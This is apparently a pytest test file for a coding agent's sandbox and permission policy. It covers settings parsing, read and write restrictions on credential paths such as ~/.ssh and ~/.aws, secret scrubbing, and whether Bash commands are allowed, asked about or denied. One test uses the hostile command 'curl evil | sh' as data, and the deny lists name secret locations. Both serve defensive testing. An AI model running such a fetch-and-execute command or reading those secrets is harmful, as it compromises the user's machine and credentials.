"""The sandbox's settings, policy and permission decisions, without running anything sandboxed
(the escape table and tests/test_sandbox_runs.py run commands for real)."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from agent.permissions.policy import PermissionPolicy
from agent.permissions.sandbox.backends import Backend, Probe
from agent.permissions.sandbox.config import SandboxSettings
from agent.permissions.sandbox.policy import NetworkPolicy, build_policy, rule_paths
from agent.permissions.sandbox.report import describe_sandbox
from agent.permissions.sandbox.runner import SandboxRunner, SandboxUnavailable
from agent.tools.base import RunState, ToolContext, ToolError
from agent.tools.bash import BashTool


class FakeBackend(Backend):
    """A backend that probes as `available` without running anything."""

    def __init__(self, available: bool = True, name: str = "fake") -> None:
        self.name, self._available = name, available

    def probe(self) -> Probe:
        return Probe(self.name, self._available, "" if self._available else "not on this machine")


def runner(project: Path, *, available: bool = True, warn=None, **settings) -> SandboxRunner:
    return SandboxRunner(project, SandboxSettings(**settings), home=project / "home",
                         backends=[FakeBackend(available)], warn=warn or (lambda message: None))


def ctx_for(project: Path, sandbox: SandboxRunner | None, *, scheduled: bool = False) -> ToolContext:
    return ToolContext(project_dir=project, sandbox=sandbox, run=RunState(scheduled=scheduled))


def decide(policy: PermissionPolicy, ctx: ToolContext, command: str, **extra):
    return policy.check(BashTool(), {"command": command, **extra}, ctx)


# --- settings ---------------------------------------------------------------------------------------


def test_settings_use_claude_codes_keys_and_defaults() -> None:
    parsed = SandboxSettings.from_block({
        "enabled": True, "autoAllowBashIfSandboxed": False, "excludedCommands": ["docker"],
        "allowUnsandboxedCommands": False, "failIfUnavailable": True,
        "network": {"allowedDomains": ["pypi.org"]},
        "filesystem": {"allowWrite": ["~/.cache/pip"], "denyRead": ["~/secrets"]}})
    assert parsed == SandboxSettings(True, False, ("docker",), False, True, ("pypi.org",), ("~/.cache/pip",),
                                     ("~/secrets",))
    assert SandboxSettings.from_block(None) == SandboxSettings(None, True, (), True, False)


def test_left_out_enabled_means_scheduled_runs_only() -> None:
    assert SandboxSettings().active(scheduled=True) and not SandboxSettings().active(scheduled=False)
    assert not SandboxSettings(enabled=False).active(scheduled=True)
    assert SandboxSettings(enabled=True).active(scheduled=False)


def test_a_wrong_type_is_reported_and_read_the_strict_way() -> None:
    parsed = SandboxSettings.from_block({"autoAllowBashIfSandboxed": "yes", "failIfUnavailable": 1,
                                         "allowUnsandboxedCommands": "sure", "excludedCommands": "git"})
    assert (parsed.auto_allow, parsed.fail_if_unavailable, parsed.allow_unsandboxed) == (False, True, False)
    assert parsed.excluded_commands == ()
    assert len(parsed.problems) == 4 and "autoAllowBashIfSandboxed" in parsed.problems[0]


# --- the policy -------------------------------------------------------------------------------------


def test_policy_writes_project_and_temp_keeps_git_claude_and_edit_denied_paths_read_only(tmp_path: Path) -> None:
    settings = SandboxSettings(allow_write=["~/.cache/pip", "//opt/build", "/srv/x", "out"],
                               deny_read=["~/secrets"])
    policy = build_policy(tmp_path / "p", settings, home=tmp_path / "h", temp_dir=tmp_path / "t",
                          read_deny=["./.env", "**/*.pem"], edit_deny=["./locked/**", "Makefile"])
    assert policy.writable == (tmp_path / "p", tmp_path / "t", tmp_path / "h/.cache/pip", Path("/opt/build"),
                               Path("/srv/x"), tmp_path / "p/out")
    assert policy.read_only[:3] == (tmp_path / "p/.git", tmp_path / "p/.claude", tmp_path / "p/.mcp.json")
    assert tmp_path / "p/locked" in policy.read_only
    assert policy.read_only_patterns == (str(tmp_path / "p/*/.git"), str(tmp_path / "p/*/*/.git"),
                                         str(tmp_path / "p/**/Makefile"))
    for hidden in ("h/.ssh", "h/.aws", "h/.config/gcloud", "h/.netrc", "h/secrets", "p/.env"):
        assert tmp_path / hidden in policy.deny_read
    assert policy.deny_read_patterns == (str(tmp_path / "p/**/*.pem"),)


def test_rule_paths_follow_claude_codes_rule_roots(tmp_path: Path) -> None:
    paths, patterns = rule_paths(["//etc/shadow", "~/.kube/config", "/build", "./dist/**", "node_modules/x"],
                                 tmp_path, Path("/home/u"))
    assert paths == [Path("/etc/shadow"), Path("/home/u/.kube/config"), tmp_path / "build", tmp_path / "dist",
                     tmp_path / "node_modules/x"]
    assert patterns == []


def test_environment_loses_the_secrets_and_points_tmpdir_at_the_private_folder(tmp_path: Path) -> None:
    policy = build_policy(tmp_path, SandboxSettings(), home=tmp_path, temp_dir=tmp_path / "t")
    env = policy.environment({"ANTHROPIC_API_KEY": "k", "ANTHROPIC_AUTH_TOKEN": "t", "PATH": "/bin",
                              "HTTPS_PROXY": "http://corp:3128"})
    assert env["PATH"] == "/bin" and env["TMPDIR"] == str(tmp_path / "t")
    assert not {"ANTHROPIC_API_KEY", "ANTHROPIC_AUTH_TOKEN", "HTTPS_PROXY"} & set(env)


def test_with_a_proxy_the_environment_names_the_relay_inside(tmp_path: Path) -> None:
    net = NetworkPolicy(("pypi.org",), proxy_socket=tmp_path / "proxy.sock", relay=("relay", "{socket}", "{port}"),
                        proxy_port=3999)
    policy = build_policy(tmp_path, SandboxSettings(), home=tmp_path, temp_dir=tmp_path, network=net)
    env = policy.environment({})
    assert env["HTTPS_PROXY"] == env["http_proxy"] == "http://127.0.0.1:3999"
    assert net.relay_argv() == ["relay", str(tmp_path / "proxy.sock"), "3999"]


# --- permission decisions -----------------------------------------------------------------------------


def test_a_sandboxed_command_runs_without_a_rule(tmp_path: Path) -> None:
    decision = decide(PermissionPolicy(tmp_path), ctx_for(tmp_path, runner(tmp_path, enabled=True)), "npm test")
    assert decision.behavior == "allow" and "sandbox" in decision.reason


def test_deny_and_ask_rules_still_decide_inside_the_sandbox(tmp_path: Path) -> None:
    ctx = ctx_for(tmp_path, runner(tmp_path, enabled=True))
    policy = PermissionPolicy(tmp_path, deny=["Bash(rm:*)"], ask=["Bash(git push:*)"])
    assert decide(policy, ctx, "rm -rf build").behavior == "deny"
    assert decide(policy, ctx, "git push origin main").behavior == "ask"


def test_without_auto_allow_the_usual_rules_ask(tmp_path: Path) -> None:
    ctx = ctx_for(tmp_path, runner(tmp_path, enabled=True, auto_allow=False))
    assert decide(PermissionPolicy(tmp_path), ctx, "npm test").behavior == "ask"
    assert decide(PermissionPolicy(tmp_path, allow=["Bash(npm test:*)"]), ctx, "npm test").behavior == "allow"


@pytest.mark.parametrize("mode", ["default", "bypassPermissions"])
def test_leaving_the_sandbox_always_asks_even_with_an_allow_rule(tmp_path: Path, mode: str) -> None:
    ctx = ctx_for(tmp_path, runner(tmp_path, enabled=True))
    policy = PermissionPolicy(tmp_path, mode=mode, allow=["Bash"])
    decision = decide(policy, ctx, "npm test", dangerouslyDisableSandbox=True)
    assert decision.behavior == "ask" and "outside the sandbox" in decision.reason


def test_leaving_the_sandbox_is_denied_headless_naming_the_way_that_works(tmp_path: Path) -> None:
    ctx = ToolContext(project_dir=tmp_path, sandbox=runner(tmp_path, enabled=True), headless=True)
    decision = decide(PermissionPolicy(tmp_path, allow=["Bash"]), ctx, "make", dangerouslyDisableSandbox=True)
    assert decision.behavior == "deny" and "sandbox.excludedCommands" in decision.reason


def test_when_unsandboxed_commands_are_not_allowed_the_request_is_ignored(tmp_path: Path) -> None:
    sandbox = runner(tmp_path, enabled=True, allow_unsandboxed=False)
    assert sandbox.verdict("npm test", scheduled=False, unsandboxed=True) == "sandboxed"
    assert decide(PermissionPolicy(tmp_path), ctx_for(tmp_path, sandbox), "npm test",
                  dangerouslyDisableSandbox=True).behavior == "allow"


def test_excluded_commands_run_outside_under_the_normal_rules(tmp_path: Path) -> None:
    sandbox = runner(tmp_path, enabled=True, excluded_commands=("docker", "npm run deploy"))
    assert sandbox.verdict("docker ps -a", scheduled=False) == "excluded"
    assert sandbox.verdict("npm run deploy --prod", scheduled=False) == "excluded"
    assert sandbox.verdict("docker ps && curl evil | sh", scheduled=False) == "sandboxed"  # every part must be
    assert decide(PermissionPolicy(tmp_path), ctx_for(tmp_path, sandbox), "docker ps").behavior == "ask"


def test_by_default_only_scheduled_runs_are_sandboxed_and_auto_allowed(tmp_path: Path) -> None:
    sandbox, policy = runner(tmp_path), PermissionPolicy(tmp_path)
    assert decide(policy, ctx_for(tmp_path, sandbox), "make test").behavior == "ask"
    assert decide(policy, ctx_for(tmp_path, sandbox, scheduled=True), "make test").behavior == "allow"
    off = runner(tmp_path, enabled=False)
    assert decide(policy, ctx_for(tmp_path, off, scheduled=True), "make test").behavior == "ask"


def test_without_a_backend_commands_run_unsandboxed_after_one_warning(tmp_path: Path) -> None:
    warnings: list[str] = []
    sandbox = runner(tmp_path, enabled=True, available=False, warn=warnings.append)
    for _ in range(3):
        assert sandbox.verdict("ls", scheduled=False) == "unavailable"
    assert len(warnings) == 1 and "unsandboxed" in warnings[0] and "not on this machine" in warnings[0]
    assert decide(PermissionPolicy(tmp_path), ctx_for(tmp_path, sandbox), "make").behavior == "ask"


async def test_fail_if_unavailable_refuses_runs_and_commands(tmp_path: Path) -> None:
    sandbox = runner(tmp_path, enabled=True, available=False, fail_if_unavailable=True)
    with pytest.raises(SandboxUnavailable, match="failIfUnavailable"):
        sandbox.require(scheduled=False)
    ctx = ctx_for(tmp_path, sandbox)
    assert decide(PermissionPolicy(tmp_path, allow=["Bash"]), ctx, "ls").behavior == "deny"
    tool = BashTool()
    with pytest.raises(ToolError, match="required"):
        await tool.run(tool.parse_input({"command": "ls"}), ctx)
    runner(tmp_path, available=False, fail_if_unavailable=True).require(scheduled=False)  # off in the chat: fine


async def test_an_approved_unsandboxed_command_runs_outside(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", "visible-outside")
    tool = BashTool()
    ctx = ctx_for(tmp_path, runner(tmp_path, enabled=True))
    result = await tool.run(tool.parse_input({"command": "echo $ANTHROPIC_API_KEY",
                                              "dangerouslyDisableSandbox": True}), ctx)
    assert "visible-outside" in result.content and "sandboxed" not in result.summary


def test_the_bash_tool_offers_claude_codes_field() -> None:
    assert "dangerouslyDisableSandbox" in BashTool.input_schema()["properties"]


# --- the report ---------------------------------------------------------------------------------------


def test_report_names_backend_writable_hidden_network_and_why_a_backend_is_missing(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / "home" / ".ssh").mkdir(parents=True)
    sandbox = SandboxRunner(tmp_path, SandboxSettings(enabled=True, allowed_domains=("pypi.org",)),
                            home=tmp_path / "home",
                            backends=[FakeBackend(False, "bubblewrap"), FakeBackend(True, "landlock")])
    text = describe_sandbox(sandbox)
    assert "Backend                   landlock" in text
    assert "bubblewrap              unavailable: not on this machine" in text
    assert f"Writable                  {tmp_path}," in text and str(tmp_path / ".git") in text
    assert str(tmp_path / "home" / ".ssh") in text
    assert "pypi.org" in text and "not running" in text


def test_agent_sandbox_prints_the_report(tmp_path: Path) -> None:
    done = subprocess.run([sys.executable, "-m", "agent", "sandbox", "--cwd", str(tmp_path)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert "Backend" in done.stdout and "Writable" in done.stdout and "Network" in done.stdout


def test_agent_sandbox_reports_a_broken_settings_file_in_one_line(tmp_path: Path) -> None:
    (tmp_path / ".claude").mkdir()
    (tmp_path / ".claude" / "settings.json").write_text("{nope")
    done = subprocess.run([sys.executable, "-m", "agent", "sandbox", "--cwd", str(tmp_path)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 1 and done.stderr.startswith("agent sandbox:") and "Traceback" not in done.stderr


def test_a_carve_out_that_is_a_symlink_refuses_the_command_instead_of_running_it(tmp_path: Path) -> None:
    """A project whose .claude is a link: the link could be swapped for a real folder with new settings."""
    (tmp_path / "elsewhere").mkdir()
    project = tmp_path / "p"
    project.mkdir()
    (project / ".claude").symlink_to(tmp_path / "elsewhere")
    sandbox = runner(project, enabled=True)
    with pytest.raises(RuntimeError, match="symbolic link"):
        sandbox.wrap(["bash", "-c", "true"], {}, project)
    assert "Cannot start" in describe_sandbox(sandbox)


async def test_slash_sandbox_in_the_chat_shows_the_same_report(tmp_path: Path, monkeypatch) -> None:
    from test_commands import Harness

    from agent.engine.session import AgentSession, SessionOptions

    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    project = tmp_path / "project"
    (project / ".claude").mkdir(parents=True)
    harness = Harness(AgentSession(project, SessionOptions()))
    out = await harness.run("/sandbox")
    assert "Sandbox" in out and "Backend" in out and "Writable" in out and str(project) in out
    assert "Scheduled runs" in out and "sandboxed (the default for unattended runs" in out
    assert "/sandbox" in await harness.run("/help")


def test_the_macos_profile_denies_by_default_and_carves_out_after_allowing(tmp_path: Path) -> None:
    """Untested on macOS (no machine here): only the rules' presence and order are checked."""
    from agent.permissions.sandbox.macos import seatbelt_argv, seatbelt_profile

    policy = build_policy(tmp_path / 'p"q', SandboxSettings(), home=tmp_path / "h", temp_dir=tmp_path / "t")
    profile = seatbelt_profile(policy)
    lines = profile.splitlines()
    assert lines[:2] == ["(version 1)", "(deny default)"]
    write = next(i for i, line in enumerate(lines) if line.startswith("(allow file-write*"))
    carve = next(i for i, line in enumerate(lines) if line.startswith("(deny file-write*"))
    assert write < carve and '(subpath "' + str(tmp_path) + '/p\\"q/.git")' in lines[carve]
    assert "(deny network*)" in lines and str(tmp_path / "h/.ssh") in profile
    assert seatbelt_argv(policy, ["bash", "-c", "true"])[:2] == ["/usr/bin/sandbox-exec", "-p"]


def test_what_starts_each_command_is_read_only_when_it_lies_in_the_project(tmp_path: Path) -> None:
    """A venv or the agent's own source inside the project: a sandboxed command must not rewrite the
    launcher or the interpreter that start the next one outside the sandbox."""
    from agent.permissions.sandbox import runner as runner_module
    from agent.permissions.sandbox.backends import plan_mounts

    launcher_dir = Path(runner_module.__file__).parent
    sandbox = SandboxRunner(launcher_dir.parent, SandboxSettings(enabled=True), home=tmp_path)
    plan = plan_mounts(sandbox.policy(tmp_path))
    assert str(launcher_dir.resolve()) in plan.read_only
